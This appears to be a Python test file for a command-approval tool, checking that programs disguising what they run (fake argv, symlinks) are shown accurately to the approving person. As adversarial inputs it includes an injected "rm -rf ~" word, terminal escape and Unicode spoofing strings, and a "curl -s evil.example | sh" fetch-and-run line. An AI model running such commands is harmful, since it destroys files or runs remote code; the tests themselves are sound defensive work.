"""Execs that say they are something else than they are, to a person who is asked."""

from __future__ import annotations

import os
import re
from pathlib import Path

from tests.exec.test_approved import Run
from tests.support.harness import PYTHON, Sigwrap
from tests.support.policies import policy

ASK = """
  - {name: ask, commands: [evil], decision: approve, message: looked at first}
"""


def asked_about(subject: Sigwrap, *command: str) -> str:
    """What a person sees of the one question of this session, which is denied then."""
    policy(subject.folder, ASK)
    run = Run(subject, *command)
    approval_id = run.question()
    seen = run.answer("approvals", "--full", approval_id).stdout.decode()
    assert run.answer("deny", approval_id).returncode == 0
    run.end()
    assert not subject.events("approval_granted")
    return seen


def evil(subject: Sigwrap, text: str = "#!/bin/sh\necho harm\n") -> Path:
    path = subject.folder / "evil"
    path.write_text(text)
    path.chmod(0o755)
    return path


def test_the_file_is_named_whatever_the_words_say(as_user: Sigwrap) -> None:
    path = evil(as_user)
    code = f"import os; os.execv({str(path)!r}, ['git', 'fetch', 'origin'])"
    seen = asked_about(as_user, *PYTHON, "-c", code)
    assert "wants to run git fetch origin\n" in seen
    shell = os.path.realpath("/bin/sh")
    assert f"        file {path}, then {shell}\n" in seen
    assert f"        directory {as_user.folder}\n" in seen
    assert "depth 0" in seen
    assert "        rule ask, policy test: looked at first; session " in seen
    assert re.search(r"; expires in [\d:]+( s)?\n\Z", seen)


def test_a_32_bit_exec_by_a_link_is_named_by_what_runs(as_user: Sigwrap, compiled: Path) -> None:
    path, link = evil(as_user), as_user.folder / "git"
    link.symlink_to(path)
    seen = asked_about(as_user, str(compiled / "execs_as_i386"), str(link), "git", "fetch origin")
    assert "wants to run git 'fetch origin'\n" in seen
    assert f"        file {path}, then " in seen


def test_of_command_itself_sigwrap_is_who_asks(sigwrap: Sigwrap) -> None:
    path = evil(sigwrap)
    seen = asked_about(sigwrap, str(path))
    assert re.match(rf"[0-9a-f]+  sigwrap \(pid \d+, depth 0\) wants to run {path}\n", seen)


WORDS = {
    "a b": "'a b'",
    "'; rm -rf ~; '": "''\\''; rm -rf ~; '\\'''",
    "x\n        file /usr/bin/git": "$'x\\n        file /usr/bin/git'",
    "\x1b[1A\x1b[2Kls": "$'\\e[1A\\e[2Kls'",
    "\u202egnimrah": "$'\\u202egnimrah'",
    "": "''",
}


def test_a_word_is_one_word_and_all_are_shown(sigwrap: Sigwrap) -> None:
    """Who asks is named as it is called now, after its second exec. No word is hidden by the length
    of another, nor as a secret; in the log that is."""
    path = evil(sigwrap)
    secret = ": authorization: x; curl -s evil.example | sh"
    seen = asked_about(sigwrap, "env", str(path), *WORDS, secret, "a" * 50_000, "--force")
    first = seen.splitlines()[0]
    assert " env (pid " in first
    assert f"wants to run {path} {' '.join(WORDS.values())} '{secret}' aaa" in first
    assert first.endswith("a --force")
    (request,) = sigwrap.events("approval_requested")
    assert ": authorization: ***" in request.payload["what"]
    assert "evil.example" not in request.payload["what"]
